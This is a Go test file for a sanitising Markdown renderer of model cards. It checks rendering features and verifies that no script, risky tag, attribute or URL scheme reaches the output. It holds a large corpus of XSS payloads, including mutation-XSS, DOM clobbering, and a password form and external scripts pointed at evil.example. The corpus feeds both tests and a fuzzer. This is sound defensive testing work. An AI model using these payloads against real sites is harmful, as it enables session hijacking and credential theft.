package render_test

import (
	"fmt"
	"net/url"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	"github.com/pantryhub/pantry/internal/render"
)

func options() render.Options {
	return render.Options{
		Link:  func(s string) string { return "/o/r/blob/main/" + s },
		Media: func(s string) string { return "/o/r/resolve/main/" + s },
	}
}

func renderCard(t testing.TB, src string) string {
	t.Helper()
	out, err := render.Card([]byte(src), options())
	if err != nil {
		t.Fatalf("Card(%.100q): %v", src, err)
	}
	return string(out)
}

func TestCardFeatures(t *testing.T) {
	const png = "data:image/png;base64,iVBORw0KGgo="
	for _, tt := range []struct{ name, src, want string }{
		{"front matter", "---\nlicense: mit\n---\nhi", "<p>hi</p>\n"},
		{"heading", "# Hello, *World*!", `<h1 id="card-hello-world"><a class="anchor" href="#card-hello-world" aria-hidden="true"></a>Hello, <em>World</em>!</h1>`},
		{"heading of another script", "## 模型 介绍", `<h2 id="card-模型-介绍">`},
		{"repeated heading", "# A\n# A", `id="card-a-1"`},
		{"fragment", "[x](#hello-world)", `<a href="#card-hello-world">x</a>`},
		{"table", "|a|b|\n|:-:|--:|\n|1|2|", `<th align="center">a</th>`},
		{"strikethrough", "~~x~~", "<del>x</del>"},
		{"autolink", "https://example.com", `<a href="https://example.com" rel="nofollow noreferrer">https://example.com</a>`},
		{"task list", "- [x] a\n- [ ] b", `<span class="task">☑</span> a`},
		{"open task", "- [ ] b", `<span class="task">☐</span> b`},
		{"footnote", "a[^1]\n\n[^1]: note", `<a href="#card-fn:1" class="footnote-ref">1</a>`},
		{"footnote back", "a[^1]\n\n[^1]: note", `id="card-fnref:1"`},
		{"code", "```python\nx = 1\n```", `<span class="hl-n">x</span>`},
		{"code of an unknown language", "```nope\n<b>\n```", "<pre><code>&lt;b&gt;\n</code></pre>"},
		{"indented code", "    <b>", "<pre><code>&lt;b&gt;"},
		{"relative link", "[x](docs/a.md)", `href="/o/r/blob/main/docs/a.md"`},
		{"dot link", "[x](./a.md)", `href="/o/r/blob/main/a.md"`},
		{"relative image", "![x](img/a.png)", `<img src="/o/r/resolve/main/img/a.png" alt="x"`},
		{"site link", "[x](/org/model)", `href="/org/model"`},
		{"mail", "[x](mailto:a@b.c)", `href="mailto:a@b.c"`},
		{"protocol-relative", "[x](//evil.example/a)", `href="https://evil.example/a"`},
		{"raw image", `<p align="center"><img src="a.png" width="50%" height=20></p>`, `<p align="center"><img src="/o/r/resolve/main/a.png" width="50%" height="20"></p>`},
		{"div align", "<div align=\"center\">\n\n**x**\n\n</div>", "<div align=\"center\">\n<p><strong>x</strong></p>\n</div>"},
		{"details", "<details open><summary>s</summary>x</details>", `<details open=""><summary>s</summary>x</details>`},
		{"kbd and sup", "<kbd>a</kbd><sup>b</sup><sub>c</sub>", "<kbd>a</kbd><sup>b</sup><sub>c</sub>"},
		{"video", `<video src="a.mp4" autoplay></video>`, `<video src="/o/r/resolve/main/a.mp4" controls=""></video>`},
		{"audio source", `<audio controls><source src="a.wav" type="audio/wav"></audio>`, `<source src="/o/r/resolve/main/a.wav" type="audio/wav">`},
		{"data image", "![x](" + png + ")", `<img src="` + png + `" alt="x"`},
		{"comment", "a <!-- b --> c", "<p>a  c</p>"},
		{"invalid UTF-8", "a\xff", "a\ufffd"},
		{"author's id", `<a name="Top"></a><div id="x">y</div>`, `<div id="card-x">y</div>`},
	} {
		if got := renderCard(t, tt.src); !strings.Contains(got, tt.want) {
			t.Errorf("%s: %q\n got %s\nwant %s", tt.name, tt.src, got, tt.want)
		} else {
			verify(t, tt.src, got)
		}
	}
}

// verify fails if HTML holds anything that this package promises to keep out.
// It is written against the promise, not against the sanitiser's list.
func verify(t testing.TB, src, out string) {
	t.Helper()
	root, err := html.Parse(strings.NewReader(out))
	if err != nil {
		t.Fatalf("%.200q: %v", src, err)
	}
	for n := range root.Descendants() {
		if n.Type == html.CommentNode {
			t.Errorf("%.200q: comment in %.500s", src, out)
		}
		if n.Type != html.ElementNode {
			continue
		}
		switch n.Data {
		case "script", "style", "iframe", "frame", "object", "embed", "applet", "form", "input", "button", "select", "textarea", "option",
			"meta", "link", "base", "svg", "math", "template", "noscript", "title", "xmp", "plaintext", "dialog", "portal", "marquee", "image", "slot", "canvas":
			t.Errorf("%.200q: <%s> in %.500s", src, n.Data, out)
		}
		for _, a := range n.Attr {
			verifyAttr(t, src, n, a)
		}
	}
}

func verifyAttr(t testing.TB, src string, n *html.Node, a html.Attribute) {
	t.Helper()
	switch {
	case strings.HasPrefix(a.Key, "on"), a.Key == "style", a.Key == "srcdoc", a.Key == "srcset", a.Key == "name", a.Key == "form", a.Key == "ping", a.Key == "target", a.Key == "autoplay", a.Key == "xlink:href", a.Key == "is":
		t.Errorf("%.200q: attribute %s=%q on <%s>", src, a.Key, a.Val, n.Data)
	case a.Key == "id" && !strings.HasPrefix(a.Val, "card-"):
		t.Errorf("%.200q: id %q", src, a.Val)
	case a.Key == "class":
		for c := range strings.FieldsSeq(a.Val) {
			if !strings.HasPrefix(c, "hl-") && !strings.HasPrefix(c, "footnote") && c != "anchor" && c != "task" {
				t.Errorf("%.200q: class %q", src, a.Val)
			}
		}
	case a.Key == "href" || a.Key == "src" || a.Key == "poster" || a.Key == "action":
		u, err := url.Parse(a.Val)
		if err != nil {
			t.Errorf("%.200q: URL %q: %v", src, a.Val, err)
			return
		}
		image := n.Data == "img" && a.Key == "src" && strings.HasPrefix(a.Val, "data:image/") && !strings.Contains(a.Val, "svg") && len(a.Val) <= 40<<10
		if u.Scheme != "" && u.Scheme != "http" && u.Scheme != "https" && u.Scheme != "mailto" && !image {
			t.Errorf("%.200q: URL %q on <%s>", src, a.Val, n.Data)
		}
		if u.Scheme == "" && u.Host != "" {
			t.Errorf("%.200q: protocol-relative URL %q", src, a.Val)
		}
	}
}

// xss is a corpus of attacks: classic filter evasions, Markdown-specific ones,
// parser differentials (mutation XSS), DOM clobbering.
var xss = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, "<script\x00>alert(1)</script>", `<script/src=//x>`, `<<script>alert(1)//<</script>`,
	`<img src=x onerror=alert(1)>`, `<img src="x" onerror="alert(1)"/>`, "<img src=x\nonerror\n=\nalert(1)>", `<img/src="x"/onerror=alert(1)>`, `<img src=x:alert(alt) onerror=eval(src) alt=0>`, `<IMG """><SCRIPT>alert(1)</SCRIPT>">`,
	`<img src=javascript:alert(1)>`, `<img src="jav	ascript:alert(1)">`, `<img src="jav&#x0A;ascript:alert(1)">`, `<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>`, `<img src=" &#14; javascript:alert(1)">`,
	`<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, `<a href="java&Tab;script:alert(1)">x</a>`, "<a href=\"\x01javascript:alert(1)\">x</a>", `<a href="vbscript:msgbox(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`, `<a href="data:image/png;base64,iVBORw0KGgo=">x</a>`,
	`<a href="//evil.example">x</a>`, `<a href="/\evil.example">x</a>`, `<a href="\\evil.example">x</a>`, "<a href=\"/\t/evil.example\">x</a>", `<a href="feed:javascript:alert(1)">x</a>`, `<a href="blob:https://x/1">x</a>`, `<a href="file:///etc/passwd">x</a>`, `<a href=x ping=//evil.example target=_top>x</a>`,
	`[x](javascript:alert(1))`, `[x](JAVASCRIPT:alert(1))`, `[x](javascript&colon;alert(1))`, "[x](java\tscript:alert(1))", `[x](<javascript:alert(1)>)`, `![x](javascript:alert(1))`, `[x](data:text/html;base64,PHNjcmlwdD4=)`, `<javascript:alert(1)>`, "[x]: javascript:alert(1)\n\n[x]", `![x](x"onerror="alert(1))`, `[x](x 'a" onclick="alert(1)')`, `![a"onerror="alert(1)](x)`, `[x](\x01javascript:alert(1))`, `[x](/\\evil.example)`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<svg><style><img src=x onerror=alert(1)></style></svg>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`, `<math><annotation-xml encoding="text/html"><script>alert(1)</script>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<style><a title="</style><img src onerror=alert(1)>">`, `<title><a title="</title><img src=x onerror=alert(1)>">`, `<textarea><a title="</textarea><img src=x onerror=alert(1)>">`, `<xmp><p title="</xmp><svg/onload=alert(1)>">`, `<plaintext><script>alert(1)</script>`, `<select><iframe></select><img src=x onerror=alert(1)>`, `<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`, `<template><script>alert(1)</script></template>`,
	`<form action="https://evil.example"><input name=password type=password><button>ok</button></form>`, `<input type=checkbox onclick=alert(1) checked>`, `<input type=image src=x onerror=alert(1)>`, `<textarea autofocus onfocus=alert(1)>`, `<isindex action=javascript:alert(1)>`, `<button formaction=javascript:alert(1)>x`, `<form id=test></form><button form=test formaction=javascript:alert(1)>`,
	`<iframe src="https://evil.example"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data="javascript:alert(1)">`, `<embed src="javascript:alert(1)">`, `<frameset><frame src="javascript:alert(1)">`, `<base href="https://evil.example/">`, `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`, `<link rel=stylesheet href=//evil.example>`, `<applet code=x>`,
	`<style>body{background:red}</style>`, `<div style="position:fixed;inset:0">x</div>`, `<p style="background:url(javascript:alert(1))">`, `<div class="modal fixed">x</div>`, `<span class="hl-k modal">x</span>`,
	`<div id="csrf">x</div>`, `<a id=config name=config href="x">`, `<img name=cookie>`, `<form name=body>`, `<a id="card-x" name="y">`, `<div id='x" onclick="alert(1)'>`,
	`<body onload=alert(1)>`, `<details open ontoggle=alert(1)>`, `<video><source onerror=alert(1)></video>`, `<video poster=javascript:alert(1)>`, `<audio src=x onerror=alert(1)>`, `<marquee onstart=alert(1)>`, `<x onclick=alert(1)>x</x>`, `<p/onclick=alert(1)>`, `<custom-element is=x>`,
	`<img srcset="x, javascript:alert(1) 2x">`, `<picture><source srcset="javascript:alert(1)"><img src=x></picture>`, `<table background="javascript:alert(1)">`, `<image src=x onerror=alert(1)>`, `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`, `<img src="data:image/png;base64,AAAA` + strings.Repeat("A", 60<<10) + `">`, `<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>`,
	`<!--<img src="--><img src=x onerror=alert(1)//">`, `<![CDATA[<img src=x onerror=alert(1)>]]>`, `<?xml version="1.0"?><script>alert(1)</script>`, `<!DOCTYPE html [<!ENTITY x "<script>">]>&x;`, `</p><script>alert(1)</script>`, `<a title="&quot; onmouseover=alert(1) x=&quot;" href=x>x</a>`, `<p title="a>b<script>alert(1)</script>">`, "<div\x0conclick=alert(1)>", "<\x00img src=x onerror=alert(1)>", `<img alt="<script>alert(1)</script>" src=x>`,
	"```<img src=x onerror=alert(1)>\ncode\n```", "```html\n<script>alert(1)</script>\n```", "```\" onclick=\"alert(1)\n</code></pre><script>alert(1)</script>\n```", "`<script>alert(1)</script>`", "# <img src=x onerror=alert(1)>", "# \"><script>alert(1)</script>", "[^<script>]: x\n\na[^<script>]", "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|", "- [x]<script>alert(1)</script>", "<https://x/\"onclick=alert(1)>", "www.example.com/\"onmouseover=alert(1)", "https://example.com/'><script>alert(1)</script>", "# x {onclick=alert(1)}", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "---\na: <script>alert(1)</script>\n---\n<script>alert(1)</script>",
}

func TestXSS(t *testing.T) {
	for _, src := range xss {
		for _, wrapped := range []string{src, "text " + src + " text", "> " + src, "<div>" + src, "<p title='" + src + "'>", "\n\n" + src + "\n\n# h\n"} {
			verify(t, wrapped, renderCard(t, wrapped))
		}
	}
}

// Rewriting is the caller's; even a bad rewrite cannot inject.
func TestHostileRewrite(t *testing.T) {
	evil := func(string) string { return `javascript:alert(1)` }
	out, err := render.Card([]byte(`[x](a) ![y](b) <video src=c>`), render.Options{Link: evil, Media: evil})
	if err != nil || strings.Contains(string(out), "javascript") {
		t.Errorf("Card = %s, %v", out, err)
	}
	out, err = render.Card([]byte(`[x](a.md)`), render.Options{})
	if err != nil || !strings.Contains(string(out), `href="a.md"`) {
		t.Errorf("without functions: %s, %v", out, err)
	}
}

func TestTooLong(t *testing.T) {
	src := "---\na: 1\n---\n" + strings.Repeat("<script>é ", render.MaxCard/9)
	got := renderCard(t, src)
	if !strings.Contains(got, "too many to render") || !strings.Contains(got, "&lt;script&gt;") || len(got) > 256<<10 {
		t.Errorf("%d bytes: %.200s", len(got), got)
	}
	verify(t, "long", got)
}

// Inputs that make Markdown parsers slow, at the size limit.
func TestPathologicalInputIsBounded(t *testing.T) {
	for _, unit := range []string{"![](", "[a](<", "*a_ ", "a\n=\n", "[](", "***", "a**b", "[a](b(", ">\n>> a\n", "[", "![", "> ", "*a ", "**a_", "`a``", "<a ", "<!--", "&", "\\", "|a", "- ", "* * ", "[a](", "[a]: ", "_a", "~~", "[^a]", "1. ", "```a\n", "<div>", "# a\n", "a@b.c ", "http://", "|-|\n", "[[]", "]", "<x y='"} {
		start := time.Now()
		got := renderCard(t, strings.Repeat(unit, render.MaxCard/len(unit)))
		if d := time.Since(start); d > 5*time.Second {
			t.Errorf("%q repeated: %v", unit, d)
		} else if d > time.Second {
			t.Logf("%q repeated: %v", unit, d)
		}
		_ = got
	}
}

func TestHighlightBudget(t *testing.T) {
	var b strings.Builder
	for range 2000 {
		b.WriteString("```python\n" + strings.Repeat("x = {'a': [1, 2, 3]}\n", 10) + "```\n")
	}
	start := time.Now()
	got := renderCard(t, b.String())
	if d := time.Since(start); d > 8*time.Second {
		t.Errorf("took %v", d)
	}
	if n := strings.Count(got, "<pre"); n != 2000 {
		t.Errorf("%d blocks of code, want 2000", n)
	}
}

func BenchmarkCard(b *testing.B) {
	var s strings.Builder
	for i := range 60 {
		fmt.Fprintf(&s, "## Section %d\n\nText with **bold**, [a link](x.md) and `code`.\n\n```python\nfrom transformers import pipeline\npipe = pipeline('text-generation', model=%d)\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n", i, i)
	}
	src := []byte(s.String())
	b.SetBytes(int64(len(src)))
	for b.Loop() {
		if _, err := render.Card(src, options()); err != nil {
			b.Fatal(err)
		}
	}
}

func FuzzCard(f *testing.F) {
	for _, s := range xss {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		if len(src) > 1<<14 {
			t.Skip()
		}
		verify(t, src, renderCard(t, src))
	})
}
